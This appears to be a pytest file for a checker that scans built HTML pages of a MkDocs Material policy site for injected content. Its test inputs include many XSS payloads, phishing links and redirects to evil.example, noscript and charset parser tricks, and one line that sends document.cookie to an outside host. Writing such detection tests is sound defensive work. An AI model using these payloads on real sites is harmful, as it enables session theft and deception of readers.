"""The output check on built HTML, parsed as a browser parses it: a page of the theme with one thing
slipped in, in the policy text (the article) or in the theme's part of the page."""
from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest

from helpers import ROOT, calls_to
from policysite import addresses, findingcache, safety
from policysite.messages import said_in

THEME = (str(ROOT / "overrides"),
         str(Path(__import__("material").__file__).parent / "templates"),
         str(Path(__import__("mkdocs").__file__).parent / "templates"))
SCOPE = ('<script>__md_scope=new URL(".",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
         '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
         '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
         '</script>')
# The site's guard of Material's `__outdated` (overrides/partials/javascripts/outdated.html), after SCOPE: on every
# page naming a version
GUARD = '<script>var __md_s=__md_set;__md_set=function(k){"__outdated"!=k&&__md_s.apply(this,arguments)}</script>'


def page(article: str = "<p>Text.</p>", head: str = "", chrome: str = "") -> str:
    """A built page: `head` in its head, `chrome` in the theme's header before the article, `article` in its text."""
    return (f'<!doctype html><html lang="en"><head><meta charset="utf-8">'
            f'<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">{head}{SCOPE}</head>'
            f'<body><header class="md-header" data-md-component="header">{chrome}</header>'
            f'<div class="md-content"><article class="md-content__inner md-typeset">'
            f'<h2 id="s2">2. Section</h2>{article}</article></div>'
            f'<script src="assets/javascripts/bundle.js"></script></body></html>')


def violations(html: str) -> list[str]:
    return [v.message for v in safety.check_page(html, file="index.html", theme_dirs=THEME)]


def test_a_plain_page_with_the_theme_scripts_passes():
    assert violations(page('<p>See <a href="https://www.example.org/">a site</a> and '
                           '<a href="mailto:x@example.test">write</a>.</p><img alt="" src="assets/x.png">')) == []


@pytest.mark.parametrize("article", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>', '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>', '<a href="data:text/html,x">x</a>', '<img src="https://cdn.example/x.png">',
    '<img src="//cdn.example/x.png">', '<img src="/\\cdn.example/x.png">', '<img srcset="https://cdn.example/x 1x">',
    '<p style="color:red">x</p>', '<iframe src="/x"></iframe>', '<object data="/x"></object>', '<embed src="/x">',
    '<form><input name=q></form>', '<base href="/">', '<svg><a href="#">x</a></svg>', '<math><mi>x</mi></math>',
    '<details open ontoggle=alert(1)>x</details>', '<p id="__config">{}</p>', '<p data-x="1">x</p>',
    '<script type="speculationrules">{}</script>', '<link rel="preload" href="//cdn.example/x">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">', '<a href="#" target="_blank">x</a>',
    '<video poster="//evil.example/x.png"></video>', '<table background="//evil.example/x.png"></table>',
    '<a ping="/x" href="#">x</a>', '<input type="image" src="/x.png">', '<style>p{color:red}</style>',
    # text hidden, or covered by the theme's own classes (Material: md-toggle hides, md-consent__inner covers)
    '<table><tr><td hidden>x</td></tr></table>', '<p class="md-toggle">x</p>', '<p class="md-consent__inner">x</p>',
    # an id the section's heading has: every link to §2 would land on the first (hunt 9: f_duplicate_id)
    '<p><a id="s2" href="https://example.org/">see</a></p>',
])
def test_unsafe_in_the_policy_text_is_found(article):
    found = safety.check_page(page(article), file="index.html", theme_dirs=THEME)
    assert found, article
    assert all(v.anchor == "s2" for v in found if v.anchor is not None)


@pytest.mark.parametrize("head", [
    "<script>alert(1)</script>", '<script src="https://cdn.example/x.js"></script>',
    '<link rel="stylesheet" href="https://cdn.example/x.css">', '<meta http-equiv="refresh" content="0; url=https://x">',
    '<base href="https://evil.example/">', '<link rel="icon" href="//evil.example/x.ico">',
    '<meta http-equiv="set-cookie" content="a=b">', '<style>@import url(//evil.example/x.css);</style>',
])
def test_unsafe_in_the_theme_part_is_found(head):
    assert violations(page(head=head)), head



@pytest.mark.parametrize("template", [
    '<template shadowrootmode="open"><a href="https://evil.example/">Sign in to object</a></template>',
    '<div><template shadowrootmode="closed"><img src="x" onerror="alert(1)"></template></div>',
    '<template shadowrootmode="open"><style>*{background:url(https://evil.example/)}</style></template>',
    "<template><script>alert(1)</script></template>"])
def test_a_template_s_content_the_parser_keeps_apart_is_found(template):
    """Session 35, safety6: the HTML parser keeps a <template>'s content in a fragment of its own, which the output
    check did not read, and a browser attaches one of `shadowrootmode` to its parent as a shadow root and shows it
    (Chromium: its link live, its image's onerror run): a page forged by a hand commit passed with a link to another
    site, a handler, a stylesheet loading from another host in it. The theme writes no <template>: one is refused on
    any page, in the text or around it."""
    for built in (page(head=template), page().replace("<body>", "<body>" + template), page(template)):
        said = "<template>: its content is a fragment of its own that the output check does not read, and that a " \
               "browser shows (`shadowrootmode`: a shadow root of its parent's"
        assert any(one.startswith(said) for one in violations(built)), built


CONFIG = ('<script id="__config" type="application/json">{{"base": "{base}", "features": [], '
          '"search": "{search}", "translations": {{"select.version": "Select version"}}}}</script>')


@pytest.mark.parametrize("head", [
    '<link rel="stylesheet" href="../data/terms.txt">', '<link rel="stylesheet" href="feed.xml?x=.css">',
    '<link rel="Stylesheet alternate" href="policy.json#.css">', '<link rel="modulepreload" href="assets/x">',
    '<link rel="preload" as="script" href="versions.json">', '<link rel="preload" as="style" href="sitemap.xml">',
    '<link rel="prefetch" as="worker" href="x.txt">', '<script type="module" src="x.json"></script>',
    CONFIG.format(base=".", search="../search/search_index.json"), CONFIG.format(base=".", search="//evil.example/w.js"),
    CONFIG.format(base="en/2021-02-17/x/", search="assets/javascripts/workers/search.min.js"),
])
def test_a_link_or_worker_a_page_runs_names_a_script_or_stylesheet(head):
    """Session 30's note: only the branch's .js and .css files are vouched for (servedpages), so a page that has the
    browser run or apply another file of the site (a text, a list, an extension-less one), as a stylesheet, a preloaded
    script or the search worker Material starts from its configuration, would run what nothing checked on a host that
    sniffs; the configuration's base, whence Material reads the list of versions its selector shows, stays a parent of
    the page. Named; what the theme writes passes."""
    found = violations(page(head=head))
    assert found, head


@pytest.mark.parametrize("head", [
    '<link rel="stylesheet" href="assets/stylesheets/main.57a0d79d.min.css?v=1">',
    '<link rel="preload" as="font" href="assets/fonts/x.woff2">', '<link rel="modulepreload" href="assets/x.mjs">',
    '<link rel="icon" href="assets/images/favicon.svg">', '<link rel="canonical" href="https://example.org/en/">',
    CONFIG.format(base="../..", search="../../assets/javascripts/workers/search.a7633da7.min.js"),
    CONFIG.format(base=".", search="assets/javascripts/workers/search.a7633da7.min.js"),
])
def test_links_and_a_configuration_as_the_theme_writes_them_pass(head):
    assert violations(page(head=head)) == [], head


MATERIAL_CONFIG = {"annotate": None, "base": ".", "features": ["toc.follow", "navigation.top"],
                   "search": "../../assets/javascripts/workers/search.a7633da7.min.js", "tags": None,
                   "translations": {"search.result.term.missing": "Missing", "select.version": "Select version"},
                   "version": {"alias": False, "default": "latest", "provider": "mike"}}


def _configured(**fields) -> str:
    return ('<script id="__config" type="application/json">'
            f"{json.dumps({**MATERIAL_CONFIG, **fields})}</script>")


@pytest.mark.parametrize(("head", "said"), [
    (_configured(features=["toc.follow", "content.tooltips"]), "turns on “content.tooltips”"),
    (_configured(features=["navigation.instant"]), "turns on “navigation.instant”"),
    (_configured(features="toc.follow navigation.instant"), "turns on “toc.follow navigation.instant”"),
    (_configured(translations={"search.result.term.missing": '<a href="https://evil.example/">Sign in</a>'}),
     "gives its words “search.result.term.missing” as “<a href="),
    (_configured(translations={"search.result.more.one": '1 more <img src="x.png" alt="">'}),
     "gives its words “search.result.more.one”"),
    (_configured(version={"provider": "mike", "default": "(a+)+$"}), "names its default version “(a+)+$”"),
    (_configured(annotate={"text": ["p"]}), "names annotations ({\"text\": [\"p\"]})"),
    ('<template id="__config">{"base": "https://evil.example/", "features": []}</template>' + _configured(),
     "<template> carries the id “__config”"),
    ('<div hidden id="__CONFIG">{"base": "https://evil.example/"}</div>', "<div> carries the id “__config”"),
])
def test_what_material_reads_of_its_configuration_is_as_the_generator_writes_it(head, said):
    """Session 31 checked the configuration's search worker and base only. Material's bundle reads more of it: a feature
    (`content.tooltips` writes every title as HTML, `navigation.instant` fetches pages; a string's `includes` finds
    one in any words), its words ("Missing", "1 more on this page") added to the page by `innerHTML`, a default version
    every reader's browser runs as `new RegExp`, selectors for annotations; and it reads the configuration from the
    first element of its id, whatever the element (any case, in a page without a doctype). A forged page named as a
    rebuild carried each; named now, the generator's own configuration passing."""
    assert violations(page(head=_configured(), chrome=GUARD)) == []
    assert any(said in found for found in violations(page(head=head, chrome=GUARD))), violations(page(head=head))


@pytest.mark.parametrize("use", ['<use href="assets/images/favicon.svg#s"/>',
                                 '<use xlink:href="../../en/2021-02-17/x.svg#s"/>', '<use href="/x.svg#s"/>',
                                 '<use href="#s" xlink:href="x.svg#s"/>', '<use href=" x.svg#s"/>'])
def test_an_svg_use_in_the_themes_part_drawing_another_file_is_found(use):
    """Session 31's note: `<use>` in the theme's part of a page drawing another file of the site (a hand commit's SVG,
    served beside it) passed: only another host was refused. Its drawing is shown in the page, words and shapes (a
    cover over the text, a form's look) that no check of the page read; Material draws its icons inline, with no
    `<use>`. Found now; a `<use>` of a drawing of the page itself passes."""
    drawing = '<svg><defs><path id="s" d="M0 0h1v1z"/></defs>{}</svg>'
    assert violations(page(chrome=drawing.format('<use href="#s"/><use xlink:href="#s"/>'))) == []
    assert any("draws another file's drawing into the page" in found
               for found in violations(page(chrome=drawing.format(use)))), use


AT_DATA = '<script type="application/json" class="policy-at-data">{}</script>'


@pytest.mark.parametrize(("head", "said"), [
    (AT_DATA.format('{"strings": {}, "earlier": {"url": "https://evil.example/", "first": "1 March 2021"}}'),
     "sends its reader to “https://evil.example/”"),
    (AT_DATA.format('{"earlier": {"url": "/\\\\evil.example/fr/at/"}}'), "sends its reader to “/\\evil.example"),
    (AT_DATA.format('{"earlier": {"url": ["https://evil.example/?"]}}'),
     "sends its reader to “['https://evil.example/?']”"),
    ('<div hidden class="policy-at-data x">{"earlier": {"url": "https://evil.example/"}}</div>',
     "sends its reader to “https://evil.example/”"),
    ('<div class="policy-updated" data-policy-up="https://evil.example/" data-policy-upcoming hidden></div>',
     "data-policy-up=“https://evil.example/”, under which the site's script links the next version, is not the "
     "page's parent folders (../)"),
])
def test_a_link_the_sites_scripts_read_from_the_page_leaves_it_and_is_found(head, said):
    """Session 31's note, what the site's scripts follow as a link: at.js sends a reader asking a day before the
    translation's first text to the data's `earlier.url` (`location.replace`), read from the first `.policy-at-data`
    whatever element holds it (an array is joined into an address), and policy.js links the next version under the
    banner's `data-policy-up`. A hand commit named as a rebuild pointing either at another host made the site an open
    redirect (`…/en/at/#1900-01-01` went to evil.example); found now, the generator's own (`../../fr/at/`, `../`)
    passing."""
    assert violations(page(chrome=AT_DATA.format('{"earlier": {"url": "../../fr/at/", "first": "1 March 2021"}}')
                             + '<div data-policy-up="../" data-policy-upcoming hidden></div>')) == []
    assert any(said in found for found in violations(page(chrome=head))), violations(page(chrome=head))


@pytest.mark.parametrize("link", [
    '<a href="https://evil.example/login">Sign in to object</a>', '<a href="//evil.example/">Your rights</a>',
    '<a href="/\\evil.example/">Your rights</a>', '<a href="mailto:dpo@evil.example">Write to the DPO</a>',
    '<svg><a xlink:href="https://evil.example/"><text>Sign in</text></a></svg>',
    '<map name="m"><area href="https://evil.example/" shape="default" alt="Sign in"></map>'])
def test_a_link_to_another_site_outside_the_policy_text_is_found(link):
    """Session 31's hunt, a look-alike: the output check judged the links of the text (where they go, what they
    show) and none around it, so a page forged by a hand commit named as a rebuild could put "Sign in to object" in
    its header, linking anywhere. A link outside the text leaving the site is found now (the theme writes none but
    Material's footer credit); the text's own links, and the site's own pages, pass."""
    footer = ('<footer class="md-footer"><a href="../history/">History</a> Made with '
              '<a href="https://squidfunk.github.io/mkdocs-material/" target="_blank" rel="noopener">Material</a>'
              '</footer>')
    plain = page('<p>See <a href="https://www.cnil.fr/">the CNIL</a>.</p>').replace("</body>", footer + "</body>")
    assert violations(plain) == []
    found = violations(plain.replace("<body>", "<body>" + link))
    assert any("outside the policy text goes to another site" in one for one in found), found


@pytest.mark.parametrize(("policy", "said"), [
    ("default-src *", "(“default-src *”)"),
    ("default-src 'none'; script-src 'self' 'unsafe-inline'", "(“script-src 'unsafe-inline'”)"),
    ("default-src 'none'; form-action https://evil.example/", "(“form-action https://evil.example/”)"),
    ("default-src 'none'; img-src https:", "(“img-src https:”)"),
    ("script-src 'self'", "(“default-src”)"),
    ("default-src 'none'; report-uri https://evil.example/r", "(“report-uri”)")])
def test_a_content_security_policy_weaker_than_the_sites_is_found(policy, said):
    """Session 31's hunt: the output check asked for a Content-Security-Policy and read none of it, so a page forged by
    a hand commit named as a rebuild could allow scripts inline, forms sent anywhere, images from any host (the second
    line of defence the site promises, behind the output check), or carry its policy in the body, where a browser
    applies none. Found now; the site's own (with the theme's hashes), a stricter one, or a weak one beside the site's
    (a browser enforces both) pass."""
    site = safety.csp(["AAAA"])
    head = '<meta http-equiv="Content-Security-Policy" content="{}">'
    for passing in (site, "default-src 'none'", "default-src 'none'; script-src 'self' 'sha256-AAAA'"):
        assert violations(page().replace("default-src 'none'", passing)) == [], passing
    assert violations(page(head=head.format("default-src *"))) == []
    found = violations(page().replace("default-src 'none'", policy))
    assert any(said in one for one in found), found


def test_a_content_security_policy_outside_the_head_is_none():
    """A browser applies the policy of a <meta> that is a child of the head only: one in the body (a forged page's)
    counted as the page's, which then had none."""
    meta = '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">'
    assert meta in page()
    moved = page().replace(meta, "").replace("<body>", "<body>" + meta)
    assert "the page has no Content-Security-Policy" in violations(moved)


@pytest.mark.parametrize("tag", ['<meta name="referrer" content="unsafe-url">',
                                 '<meta name="Referrer" content="no-referrer, no-referrer-when-downgrade">',
                                 '<link rel="canonical" href="https://example.org/" referrerpolicy="unsafe-url">',
                                 '<img alt="" src="x.png" referrerpolicy=" Unsafe-URL ">'])
def test_a_referrer_policy_telling_other_sites_the_whole_address_is_found(tag):
    """Session 31's hunt: a forged page's `<meta name=referrer content=unsafe-url>` passed, and each link of the text
    followed (the CNIL's, a processor's) then told that site the whole address the reader came from: the version they
    read, and the words of their search in Material's `?h=`. Browsers send the site's name alone otherwise; found now,
    a stricter policy passing."""
    assert violations(page(head='<meta name="referrer" content="no-referrer">')) == []
    assert any("sets the referrer policy" in found for found in violations(page(head=tag))), tag


@pytest.mark.parametrize("article", [
    '</div></article></div><p>Out of the article.</p>', "</article><form><input name=password></form>",
    "</div></div></main>Just text", '</div></article></div><footer class="md-footer"><p>x</p></footer>',
    '<!-- a --!><meta http-equiv="refresh" content="0.5;url=https://evil.example/"> -->',
    '<a data-md-component="source" href="https://github.com/x/y"><span>x</span></a>',
    # the parser joins a <body> or <html> tag's attributes to the page's own: `inert` makes the page dead
    '<p>Nous collectons <body inert aria-hidden="true"> nom.</p>', '<p><html hidden>x</p>',
    # the theme loads Mermaid from unpkg.com for any pre.mermaid
    '<pre class="mermaid"><code class="language-text">graph TD</code></pre>',
    # the 404 page's scripts held in a <noscript> (overrides/404.html): one holding more, read without scripts
    '</div></article></div><noscript><script src="assets/x.js"></script><p>Shown without scripts.</p></noscript>'
    '<script src="assets/y.js"></script>',
])
def test_text_that_leaves_its_article_or_wakes_the_theme_is_found(article):
    """An end tag closing the page's own elements, a comment a browser ends early, the theme's components."""
    html = page(article).replace("</article></div>", '</article></div><button class="md-top">Top</button>'
                                 '<footer class="md-footer"></footer>')
    assert violations(html), article


# Material's chrome before the article, as base.html writes it (the site's 404 page writes its skip link itself)
CHROME = ('<input class="md-toggle" data-md-toggle="drawer" type="checkbox" id="__drawer">'
          '<input class="md-toggle" data-md-toggle="search" type="checkbox" id="__search">'
          '<label class="md-overlay" for="__drawer"></label>'
          '<div data-md-component="skip"><a href="#s2" class="md-skip">Skip to content</a></div>'
          '<div data-md-component="announce"></div>'
          '<div data-md-color-scheme="default" data-md-component="outdated" hidden></div>'
          '<header class="md-header" data-md-component="header"><nav class="md-header__inner md-grid"></nav></header>'
          '<div class="md-container" data-md-component="container"><main class="md-main" data-md-component="main">'
          '<div class="md-main__inner md-grid">'
          '<div class="md-sidebar md-sidebar--primary" data-md-component="sidebar" data-md-type="navigation"></div>'
          '<div class="md-sidebar md-sidebar--secondary" data-md-component="sidebar" data-md-type="toc"></div>')


def _chromed(before: str = "", inside: str = "") -> str:
    """page() in the theme's chrome, `before` written where the body opens, `inside` just before the article."""
    return page().replace('<body><header class="md-header" data-md-component="header"></header>',
                          f"<body>{before}{CHROME}", 1).replace(
        '<article class="md-content__inner', f'{inside}<article class="md-content__inner', 1).replace(
        "</article></div>", "</article></div></div></main></div>", 1)


@pytest.mark.parametrize(("before", "inside"), [
    ("<p>This policy was withdrawn: write to claims@evil.example.</p>", ""),
    ("Words before everything", ""),
    ('<div><a href="../signin/">Sign in to object</a></div>', ""),
    ('<aside class="md-banner"><p>Nouvelle clause.</p></aside>', ""),
    ("", '<p class="policy-archived">Nouvelle clause : vos données sont vendues.</p>'),
    ("", "Nos partenaires reçoivent vos données."),
    ("", '<a href="../2020-01-01/">Read the version in force</a>'),
])
def test_words_or_links_a_page_puts_before_its_article_are_found(before, inside):
    """Round 6's note (safety7): the output check read what follows the article (THEME_TAIL) and never what precedes
    it: a page on the branch built by another generator, never rebuilt, carried words or a link at the top of the body
    or just before the article, which no check read and every reader saw. What precedes it is held to the theme's
    chrome (THEME_HEAD) as what follows is."""
    assert violations(_chromed()) == []
    found = violations(_chromed(before, inside))
    assert [str(message) for message in found if message.key == "output.before"], found


REDIRECT = ('<!doctype html><html lang="fr"><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
            'content="default-src \'none\'"><title>t</title><meta http-equiv="refresh" content="0; url=latest/">'
            '</head><body>{body}</body></html>')


@pytest.mark.parametrize("body", [
    "<p>Vos données sont vendues à nos partenaires.</p>", "Words alone", '<ul><li>Lisez <a href="latest/">ceci</a></li></ul>',
    '<div><a href="latest/">Politique</a></div>', '<p><a href="latest/">x</a></p><h1>Nouvelle politique</h1>',
    '<ul><li><a href="latest/"><img src="x.png" alt="Politique"></a></li></ul>'])
def test_a_page_without_the_themes_article_holds_only_the_redirects_links(body):
    """Round 6's note (safety7), the page with no article: what precedes and follows the article was held to the
    theme's chrome, and a page without one (a history page replaced on the branch by another generator's) was read
    for scripts and loads only, its words and links anyone's. The one page the site writes without it is a redirect
    (policy-redirect.html): links in a list or a paragraph, and the door's script."""
    for written in ('<ul>\n<li><a href="latest/" hreflang="fr" lang="fr">Politique (Français)</a></li>\n</ul>\n',
                    '<p><a href="latest/">latest/</a></p>'):
        assert violations(REDIRECT.format(body=written)) == []
    found = violations(REDIRECT.format(body=body))
    assert any(message.key == "output.no-article" for message in found), found


@pytest.mark.parametrize(("mark", "codec"), [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be"),
                                           (b"\xef\xbb\xbf", "utf-8")])
def test_a_page_is_read_in_the_encoding_its_byte_order_mark_names(mark, codec):
    """Chromium decodes a page by its byte order mark whatever charset the host sends (GitHub Pages: utf-8): a page on
    the branch written in UTF-16 with its mark, read as UTF-8, showed the output check no element at all (a NUL
    between each letter), and Chromium ran its script (scratch: Playwright served it as `text/html; charset=utf-8`)."""
    forged = page(chrome="<script>fetch('https://evil.example/?'+document.cookie)</script>")
    data = mark + forged.encode(codec)
    assert safety.page_text(data) == forged
    assert any("<script> that is not one of the theme's own" in found for found in violations(safety.page_text(data)))
    assert safety.page_text("é".encode() + b"\xff") == "é\ufffd"  # (no mark: UTF-8, as publishing writes)


@pytest.mark.parametrize("meta", ['<meta charset="iso-2022-jp">', '<meta charset=" Shift_JIS ">',
                                  '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
                                  "<meta http-equiv=content-type content='text/html;charset=\"windows-1252\"'>"])
def test_a_page_declaring_another_encoding_than_utf_8_is_found(meta):
    """A host that sends no charset (a folder `policy export` wrote, served by a web server as it comes) has the
    browser decode a page in the encoding its <meta> names: in ISO-2022-JP, `<scr\x1b(Bipt>` is `<script>`, which the
    output check, reading UTF-8, took for an element of another name (Chromium ran it). Publishing writes UTF-8."""
    assert violations(page(head='<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">')) == []
    found = violations(page().replace('<meta charset="utf-8">', meta, 1))
    assert any(message.key == "output.charset" for message in found), found


def test_a_noscript_of_scripts_alone_after_the_theme_s_tail_passes():
    """The 404 page's scripts, held in a <noscript> after the dialog and written out by the script after it (a copy
    served under another path: overrides/404.html), are the theme's tail, as the scripts themselves are."""
    html = page().replace("</article></div>", '</article></div><button class="md-top">Top</button>'
                          '<footer class="md-footer"></footer><div class="md-dialog"></div>'
                          '<noscript data-policy-rooted>\n<script src="assets/x.js"></script>\n</noscript>')
    assert violations(html) == []


def test_words_nested_in_marks_that_shrink_them_are_found_on_the_built_page():
    """Safety hunt 39: <sub> within <sub> (or <sup>), however the text wrote it, draws its words smaller at each level:
    fine print no reader sees; one level (CO₂, m²) passes."""
    assert violations(page("<p>CO<sub>2</sub>, 10 m<sup>2</sup>, x<sub>a</sub><sup>b</sup>.</p>")) == []
    assert [v for v in violations(page("<p>Safe<sub><em><sup> and sold</sup></em></sub>.</p>"))] == [
        "<sup> inside <sub>: each draws its words smaller than the text around it, so words nested in several are "
        "fine print no reader sees; a mark or an exponent needs one, write the words as text"]


def test_a_refresh_to_another_site_is_found_however_its_seconds_are_written():
    for content in ("0.5;url=https://evil.example/", "1.;URL='https://evil.example/'", " 3 , url=//evil.example"):
        assert violations(page(head=f'<meta http-equiv="refresh" content="{content}">')), content
    redirect = ('<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src \'none\'">'
                '<meta http-equiv="refresh" content="0.5;url=../fr/"></head><body><p><a href="../fr/">fr</a></p></body></html>')
    assert violations(redirect) == []  # the site's root page: a redirect within the site
    assert [v for v in violations(page(head='<meta http-equiv="refresh" content="0.5;url=../fr/">'))
            if "sends every reader elsewhere" not in v] == []


def test_a_page_without_its_csp_is_found():
    html = page().replace('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">', "")
    assert violations(html) == ["the page has no Content-Security-Policy"]


def test_the_csp_allows_exactly_the_theme_inline_scripts_it_finds():
    html = page().replace('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">', "")
    html = html.replace("</head>", "<script>alert(1)</script></head>")
    out = safety.with_csp(html, theme_dirs=THEME)
    csp = out.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
    assert csp.count("'sha256-") == 1  # the theme's __md_scope script, not the injected one
    assert "default-src 'none'" in csp and "form-action 'none'" in csp and "base-uri 'none'" in csp
    assert out.index("Content-Security-Policy") < out.index("<script")


def test_the_sites_own_hidden_elements_and_buttons_pass():
    """Where main.html writes them: at the top of the article, before the text, in its order (safety62), in the words
    the build writes (safety63)."""
    assert violations(page().replace('<h2 id="s2">', '<p class="policy-upcoming-self" hidden>This version applies '
                                     'from March 1, 2022.</p><div class="policy-upcoming admonition info" '
                                     'data-policy-version="2022-03-01" hidden><p>A new version takes effect on <time>'
                                     '</time>: <a href="../history/">see the changes</a></p></div>'
                                     '<p class="policy-missing admonition warning" role="status" hidden>The section '
                                     'this link leads to is not in this version.</p><h2 id="s2">')) == []


@pytest.mark.parametrize(("markdown", "what"), [
    ("| a |\n|---|\n| x { hidden } |", "<td hidden>"),  # an attribute list closing a table cell
    ("Voir `code`{: hidden } ici.", "<code hidden>"),  # after a code span
    ("Voir <https://example.org>{: .md-toggle } ici.", "<a class=“md-toggle”>"),  # after an autolink
    ("Texte <span class=\"redline-sr\">caché</span>.", "<span class=“redline-sr”>"),
    ("Texte.\n{: style=\"display:none\" }", "<p style=“display:none”>"),
    # safety hunt 39: an id the theme reads its configuration by passed `policy check`, refused by publishing only
    ("Voir <span id=\"__config\">x</span>.", "<span id=“__config”>"), ("Texte.\n{: #__search }", "<p id=“__search”>"),
    # safety hunt 47: a section's id in an earlier version, which that version's links follow to the section
    ("Texte.\n{: #2021-02-17.s1 }", "<p id=“2021-02-17.s1”>"), ("## 2. T {#2021-02-17.s2}", "<h2 id=“2021-02-17.s2”>"),
])
def test_an_attribute_the_rendered_text_sets_is_found_whatever_set_it(markdown, what):
    import markdown as python_markdown

    html = python_markdown.markdown(markdown, extensions=["tables", "attr_list", "sane_lists"])
    assert [m.split(">:")[0] + ">" for _, _, _, m in safety.text_violations(html)] == [what]


def test_an_id_of_the_form_the_archive_gives_earlier_versions_sections_is_refused_outside_their_alias():
    """Safety hunt 47: `{: #2021-02-17.s1 }` on a paragraph passed the check and the output check: the links of
    2021-02-17 to its §1, which a later version's heading answers with `<span class="policy-alias" id="2021-02-17.s1">`,
    landed on the paragraph (the first element of that id). The generator's own alias passes."""
    alias = '<h2 id="s1">1. T<span class="policy-alias" id="2021-02-17.s1"></span></h2><p>Text.</p>'
    assert violations(page(alias)) == []
    found = violations(page('<p id="2021-02-17.s1">Text.</p>'))
    assert any("<p id=“2021-02-17.s1”>: ids of the form 2021-02-17.s1 are the archive's own" in v for v in found), found
    assert violations(page('<p id="2021-02-17">Text.</p><p id="s2021-02-17.1">x</p>')) == []


def test_what_markdown_itself_writes_is_no_attribute_of_the_texts():
    import markdown as python_markdown

    html = python_markdown.markdown("## 2. T {#s2}\n\n| a | b |\n|:--|--:|\n| [x](https://e.org \"t\") | ![i](i.png) |"
                                    "\n\n3. c\n4. d\n\n<abbr title=\"x\" lang=\"en\">X</abbr>",
                                    extensions=["tables", "attr_list", "sane_lists"])
    assert safety.text_violations(html) == []


def test_a_page_is_checked_as_a_browser_running_scripts_reads_its_noscript():
    """With scripting on, <noscript> is raw text up to the first </noscript>, wherever it is: a script hidden in
    an attribute ran, and a CSP tag inside one was no CSP (hunt 10: f_noscript_xss)."""
    hidden = '<noscript><p title="</noscript><script>fetch(1)</script>"></p></noscript>'
    assert any("<script> that is not one of the theme's own" in v for v in violations(page(head=hidden)))
    swallowed = page().replace('<meta http-equiv="Content-Security-Policy"', '<noscript><meta http-equiv="Content-'
                                                                            'Security-Policy"', 1)
    swallowed = swallowed.replace("'none'\">", "'none'\"></noscript>", 1)
    assert "the page has no Content-Security-Policy" in violations(swallowed)
    assert violations(page(chrome="<noscript><p>Enable JavaScript.</p></noscript>")) == []
    assert safety.csp_contents(swallowed) == []


@pytest.mark.parametrize("hidden", [
    """<noscript a=b'c><p title="</noscript><img src=x onerror=alert(1)>">'</noscript><noscript></noscript>""",
    """<noscript a=b'c><p title="</noscript><a href=https://evil.example/>Sign in</a>">'</noscript><noscript></noscript>""",
    """<noscript title=a"b><p title="</noscript><img src=x onerror=alert(1)>">"</noscript><noscript></noscript>"""])
def test_a_noscript_whose_start_tag_holds_a_quote_is_read_as_a_browser_running_scripts_reads_it(hidden):
    """Session 39, safety51: the browser's reading of a <noscript> with scripting on was a pattern's, which read the
    start tag `<noscript a=b'c>` (an unquoted value holding a quote, the tag ending at its `>`) on to the next quote of
    the page: the handler or the link a browser reads after the first `</noscript>` (inside a title) was in neither
    reading, and a page forged with it in the theme's header passed. lexbor now parses the page with scripting on."""
    found = violations(page(chrome=hidden))
    assert any(said.startswith(("<img onerror=…>: event handler", "<a href=“https://evil.example/”> outside the policy"))
               for said in found), found


def test_a_style_element_is_the_themes_own_or_refused():
    """A template of the project's own could hide or write the page's words with a <style> (hunt 10, Low)."""
    fonts = '<style>:root{--md-text-font:"Roboto";--md-code-font:"Roboto Mono"}</style>'
    assert violations(page(head=fonts)) == []
    found = violations(page(head="<style>article p{visibility:hidden}</style>"))
    assert any("<style> that is not the theme's own" in v for v in found), found


_PAGE = ('<!doctype html><html lang="fr" class="no-js"><head><title>t</title></head><body dir="ltr">'
         '<div class="md-container" data-md-component="container"><main class="md-main" data-md-component="main">'
         '<div class="md-main__inner md-grid"><div class="md-content" data-md-component="content">'
         '<article class="md-content__inner md-typeset">{article}</article></div></div></main></div></body></html>')
_TEXT = '<h1 id="politique">Politique</h1>\n<h2 id="s1">1. Objet</h2>\n<p>Nous protégeons vos données.</p>'


def test_the_text_where_the_theme_writes_it_is_shown():
    assert safety.content_hidden(_PAGE.format(article=_TEXT), _TEXT) is None
    nested = f'<div class="admonition"><p id="n1">Note</p></div>{_TEXT}'
    assert safety.content_hidden(_PAGE.format(article=nested), nested) is None
    assert safety.content_hidden(_PAGE.format(article="<p>no id</p>"), "<p>no id</p>") is None


def test_a_page_whose_template_rewrote_a_sentence_of_the_checked_text_does_not_hold_it():
    """Hunt 9, f_template_rewrites_text: a template `replace()`d a sentence of the checked text on its way in."""
    assert safety.holds_content(_PAGE.format(article=_TEXT), _TEXT)
    assert not safety.holds_content(_PAGE.format(article=_TEXT.replace("protégeons", "vendons")), _TEXT)
    assert safety.holds_content(_PAGE.format(article=""), "  ")  # a page without text holds it


@pytest.mark.parametrize("wrapped", [
    '<div class="policy-at-form" hidden>{text}</div>',
    "<details><summary>x</summary>{text}</details>",
    "<template>{text}</template>",
    "<noscript>{text}</noscript>",
    '<div style="display:none">{text}</div>',
])
def test_a_template_hiding_the_checked_text_beside_an_edited_copy_is_found(wrapped):
    """Hunt 10, finding 4: the checked text was held verbatim, but hidden, and an edited copy shown."""
    copy = _TEXT.replace('id="', 'id="c-').replace("protégeons", "vendons")
    page = _PAGE.format(article=wrapped.format(text=_TEXT) + copy)
    assert safety.content_hidden(page, _TEXT) is not None


def test_a_copy_keeping_the_ids_outside_the_article_is_found():
    page = _PAGE.format(article=_TEXT).replace('<body dir="ltr">', f'<body dir="ltr"><header>{_TEXT}</header>')
